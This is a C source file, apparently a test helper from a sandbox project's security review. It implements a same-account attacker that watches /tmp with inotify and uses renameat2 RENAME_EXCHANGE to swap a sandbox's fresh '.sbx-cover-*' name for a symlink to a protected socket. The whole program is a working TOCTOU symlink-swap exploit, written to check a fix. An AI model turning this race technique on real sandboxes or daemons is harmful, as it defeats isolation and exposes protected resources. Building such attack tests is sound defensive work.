/* name_swap DEST SECONDS [attrib]: an attacker of the same account beside a sandbox's
 * launch (review r72 F1). Watches /tmp for a new ".sbx-cover-*" name (a
 * stand-in's fresh name, bound for a moment before its mount) and swaps it,
 * with RENAME_EXCHANGE, for a symlink of its own to DEST (the closed socket
 * itself): a launch that then mounted by name would put the daemon's own
 * socket over its closed name. With "attrib" it swaps later, when the name's
 * mode changes (the launch gives the mounted stand-in the closed socket's
 * mode just before it unlinks the fresh name), and removes the name it took
 * at once: the mount then showed a name not the stand-in's own (a nested
 * launcher's 126). Prints "tries N swapped M" at the end. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char link[64], buf[8192] __attribute__((aligned(8)));
    time_t end;
    int in, tries = 0, swapped = 0, late = argc == 4 && strcmp(argv[3], "attrib") == 0;
    if (argc != 3 && !late) {
        fprintf(stderr, "usage: name_swap DEST SECONDS [attrib]\n");
        return 2;
    }
    end = time(NULL) + atoi(argv[2]);
    snprintf(link, sizeof link, "/tmp/sbx-swap-%d", (int)getpid());
    unlink(link);
    if (symlink(argv[1], link) != 0)
        return perror("symlink"), 1;
    in = inotify_init1(IN_CLOEXEC);
    if (in < 0 || inotify_add_watch(in, "/tmp", late ? IN_ATTRIB : IN_CREATE) < 0)
        return perror("inotify"), 1;
    printf("watching\n");
    fflush(stdout);
    while (time(NULL) < end) {
        struct pollfd p = {in, POLLIN, 0};
        ssize_t n;
        char *q;
        if (poll(&p, 1, 200) <= 0)
            continue;
        n = read(in, buf, sizeof buf);
        for (q = buf; n > 0 && q < buf + n;) {
            struct inotify_event *e = (struct inotify_event *)(void *)q;
            q += sizeof *e + e->len;
            if (e->len && strncmp(e->name, ".sbx-cover-", 11) == 0) {
                char name[300];
                struct stat st;
                snprintf(name, sizeof name, "/tmp/%s", e->name);
                tries++;
                if (syscall(SYS_renameat2, AT_FDCWD, link, AT_FDCWD, name, RENAME_EXCHANGE) == 0) {
                    if (lstat(link, &st) == 0 && S_ISSOCK(st.st_mode))
                        swapped++;
                    unlink(link);
                    if (symlink(argv[1], link) != 0)
                        break;
                }
            }
        }
    }
    unlink(link);
    printf("tries %d swapped %d\n", tries, swapped);
    return 0;
}
